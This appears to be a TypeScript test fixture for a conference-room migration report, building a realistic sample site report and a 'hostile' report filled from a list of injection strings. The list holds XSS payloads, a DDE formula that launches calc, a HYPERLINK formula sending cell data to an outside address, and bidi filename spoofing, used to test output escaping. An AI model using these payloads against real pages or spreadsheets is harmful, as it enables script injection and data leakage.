/** Reports for the tests: one as a real site gives it, and one in which every text is an attack. */
import { type ErrorCode, OtjError, type Problem } from '../../main/contract/errors.ts';
import { ROOM_STATES, type RoomState } from '../../main/contract/plan.ts';
import type { Report, ReportRoom } from '../../main/report/model.ts';

const SHA = '3f9c2b7e10d44a5581c6e0f2ab93d7714e5fa80c9b1d26e7f3048aa6d2c7b915';
const NAMES =
  'Fjord Skog Elv Hav Foss Dal Vidde Bre Topp Li Myr Vik Sund Holme Nes Ås Tind Eid Lund Berg Mo Haug Strand Øy';
const FAULTS: readonly (readonly [ErrorCode, string])[] = [
  [
    'MACRO_UNCERTAIN',
    'room-booking-otj: score 0.62; calls join.example.com, but has none of the known markers; run `--take-macro room-booking-otj`',
  ],
  [
    'REFUSED',
    '{"ResultId":"7","CommandResponse":{"UserManagementUserAddResult":{"status":"Error","Reason":{"Value":"Passphrase does not match the policy"}}}}',
  ],
  [
    'TRUST_CHANGED',
    'known: SHA256:uNiVztksCsDhcc0u9e8BgrJXVGLZQqR3oM0Z5mWn4yA\nshown: SHA256:0a7Yk1mXk0Qm8mJ0Vq5n2xw1vQ9Zb4rP6tUeWcYhLsE',
  ],
];
const EVERY_FIFTH: readonly RoomState[] = ['migrated', 'migrated', 'migrated', 'awaiting sync', 'migrated'];
const SPECIAL: ReadonlyMap<number, RoomState> = new Map([
  [2, 'needs attention'],
  [7, 'needs attention'],
  [11, 'in progress'],
  [12, 'needs attention'],
  [18, 'ready'],
  [21, 'undone'],
  [22, 'not started'],
  [23, 'not started'],
]);

/** A site of 24 rooms or more, in every state. */
export function sampleReport(size = 24): Report {
  const rooms = Array.from({ length: size }, (_, index) => sampleRoom(index));
  return { site: 'Nordbank Oslo', madeAt: '2026-11-23T15:31:04.000Z', technician: 'Ola Nordmann', ...counted(rooms) };
}

/** The rooms with the counts that belong to them. */
export function counted(rooms: ReportRoom[]): Pick<Report, 'rooms' | 'counts'> {
  const entries = ROOM_STATES.map((state) => [state, rooms.filter((room) => room.state === state).length]);
  return { rooms, counts: Object.fromEntries(entries) as Report['counts'] };
}

/** One room; the first is a migrated Cisco codec, every third a Poly. */
export function sampleRoom(index: number, state = stateOf(index)): ReportRoom {
  const poly = index % 3 === 1;
  const minute = (offset: number): string =>
    new Date(Date.UTC(2026, 10, 23, 8, 14 + index * 9, 11) + offset * 1000).toISOString();
  const names = NAMES.split(' ');
  const name = `${names[index % names.length]}${index < names.length ? '' : ` ${Math.floor(index / names.length) + 1}`}`;
  const touched = state !== 'not started' && state !== 'ready';
  const finished = state === 'migrated' || state === 'awaiting sync';
  const withoutOtjMs = state === 'migrated' ? 21_000 + ((index * 7919) % 97) * 1_370 : null;
  const problem = state === 'needs attention' ? faultOf(index) : null;
  return {
    name,
    building: 'Nordbank Oslo',
    floor: String(1 + (index % 4)),
    mailbox: `room-${index + 1}@nordbank.example`,
    state,
    problem,
    stateAt: minute(70),
    address: state === 'not started' ? null : `10.20.${1 + (index % 4)}.${41 + index}`,
    family: poly ? 'poly-videoos' : 'cisco-roomos',
    model: state === 'not started' ? null : poly ? 'Studio X50' : index % 2 ? 'Codec Plus' : 'Room Kit Pro',
    software: poly ? 'VideoOS 4.3.1-410402' : 'RoomOS 11.27.2.0',
    serial: `FOC2533N${100 + index}`,
    mac: `00:11:22:33:44:${(16 + index).toString(16)}`,
    technician: touched ? (index % 2 ? 'Kari Hansen' : 'Ola Nordmann') : null,
    workedAt: touched ? minute(0) : null,
    changes: finished ? sampleChanges(poly, minute) : [],
    removed:
      finished && !poly
        ? [
            { name: 'otj-macro', sha256: SHA, bytes: 14_213 },
            { name: 'otj-macro-settings', sha256: [...SHA].reverse().join(''), bytes: 812 },
          ]
        : [],
    withoutOtjMs,
    cutoverAt: finished ? minute(3) : null,
    servedAt: withoutOtjMs === null ? null : minute(3 + withoutOtjMs / 1000),
    infinity: finished
      ? {
          entryId: 400 + index,
          lastContact: withoutOtjMs === null ? null : minute(41),
          node: withoutOtjMs === null ? null : 'conf-osl-1.nordbank.example',
          meetings: withoutOtjMs === null ? null : index % 6,
        }
      : null,
    owed: state === 'awaiting sync' ? ['Create the entry of this room', 'Prove that a meeting was pushed'] : [],
    manual: touched ? sampleManual(index, minute) : [],
    steps: touched ? sampleSteps(poly, problem, minute) : [],
  };
}

function stateOf(index: number): RoomState {
  return SPECIAL.get(index % 24) ?? EVERY_FIFTH[index % 5] ?? 'migrated';
}

function faultOf(index: number): Problem {
  const [code, words] = FAULTS[index % FAULTS.length] ?? ['INTERNAL', ''];
  return new OtjError(code, words).toProblem();
}

type Clock = (offset: number) => string;

function sampleChanges(poly: boolean, minute: Clock): ReportRoom['changes'] {
  const rows: [string, string | null, string | null][] = poly
    ? [
        ['calendar.server', 'otj.pexip.example', 'infinity.nordbank.example'],
        ['calendar.username', 'room@otj.example', 'otj-room-9f2c'],
        ['calendar.password', 'a password', 'a new password'],
      ]
    : [
        ['User otj-push', null, 'Admin'],
        ['NetworkServices HTTP Mode', 'HTTP+HTTPS', 'HTTPS'],
        ['Macro otj-macro', 'active', null],
        ['Macro otj-macro-settings', 'active', null],
      ];
  return rows.map(([setting, before, after], index) => ({ setting, before, after, at: minute(2 + index) }));
}

function sampleManual(index: number, minute: Clock): ReportRoom['manual'] {
  const ticked = index % 4 !== 0;
  return [
    {
      text: 'Delete the room in Pexip Control Center, so that the old service stops reading its calendar.',
      tickedBy: ticked ? 'Kari Hansen' : null,
      tickedAt: ticked ? minute(900) : null,
      note: ticked && index % 8 === 1 ? 'Two entries of the same name; deleted both.' : null,
    },
  ];
}

function sampleSteps(poly: boolean, problem: Problem | null, minute: Clock): ReportRoom['steps'] {
  const steps: ReportRoom['steps'] = [
    {
      step: 'identify',
      status: 'done',
      at: minute(0),
      ms: 412,
      words: 'serial FOC2533N101, RoomOS 11.27.2.0',
      problem: null,
    },
    { step: 'fit', status: 'done', at: minute(1), ms: 903, words: 'idle, no provisioning, HTTPS on', problem: null },
    { step: 'backup', status: 'already', at: minute(1), ms: 38, words: `2 macros, ${SHA}`, problem: null },
  ];
  if (problem) {
    const words = problem.words ?? null;
    return [...steps, { step: 'account', status: 'failed', at: minute(3), ms: 1_204, words, problem }];
  }
  return [
    ...steps,
    {
      step: poly ? 'calendar.set' : 'macro.remove:otj-macro',
      status: 'done',
      at: minute(3),
      ms: 1_204,
      words: '<Command>\n  <MacroRemoveResult status="OK"/>\n</Command>',
      problem: null,
    },
    { step: 'proof', status: 'owed', at: minute(5), ms: 125_000, words: null, problem: null },
  ];
}

/** Texts that break out of careless HTML, CSS, CSV or sentences. */
export const ATTACKS: readonly string[] = [
  '<script>window.hit = 1</script>',
  '</style><img src=x onerror="window.hit = 1">',
  '" onmouseover="window.hit = 1" x="',
  "'><svg onload=window.hit=1>",
  '</title></textarea><iframe src="javascript:window.hit=1"></iframe>',
  '<!-- --!> ]]> <base href="http://203.0.113.1/">',
  '&lt;b&gt; &amp; {{7*7}}',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://203.0.113.1/?"&A1,"x")\n=1+1',
  '+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' \u00a0=1+1',
  '＝1+1',
  'a;=1+1',
  'a",=1+1,"b',
  'line one\r\nline two\nline three',
  'nul \u0000 bell \u0007 escape \u001b[31m delete \u007f next line \u0085',
  'evil \u202egpj.exe\u202c and \u2066isolated',
  'مرحبا بالعالم غرفة الاجتماعات',
  '👩‍👩‍👧‍👦🇳🇴 zero\u200bwidth',
  '\ud800 lone',
  'N'.repeat(10_000),
  '`unpaired',
  '',
];

/** Every attack in every field, one room each. */
export function hostileReport(): Report {
  const rooms = ATTACKS.map((text, index): ReportRoom => {
    // What the types forbid may still come from a damaged file.
    const problem: Problem = {
      code: text as ErrorCode,
      class: 'odd',
      happened: text,
      todo: text,
      words: text,
    };
    return {
      name: text,
      building: text,
      floor: text,
      mailbox: text,
      state: ROOM_STATES[index % ROOM_STATES.length] ?? 'ready',
      problem,
      stateAt: text,
      address: text,
      family: text,
      model: text,
      software: text,
      serial: text,
      mac: text,
      technician: text,
      workedAt: text,
      changes: [{ setting: text, before: text, after: text, at: text }],
      removed: [{ name: text, sha256: text, bytes: index }],
      withoutOtjMs: index % 2 ? index * 1000 : null,
      cutoverAt: text,
      servedAt: index % 2 ? text : null,
      infinity: { entryId: index, lastContact: text, node: text, meetings: index },
      owed: [text],
      manual: [
        { text, tickedBy: text, tickedAt: text, note: text },
        { text, tickedBy: null, tickedAt: null, note: null },
      ],
      steps: [{ step: text, status: text, at: text, ms: index, words: `more ${text}`, problem }],
    };
  });
  const site = ATTACKS.slice(0, 12).join(' ');
  return { site, madeAt: site, technician: site, ...counted(rooms) };
}
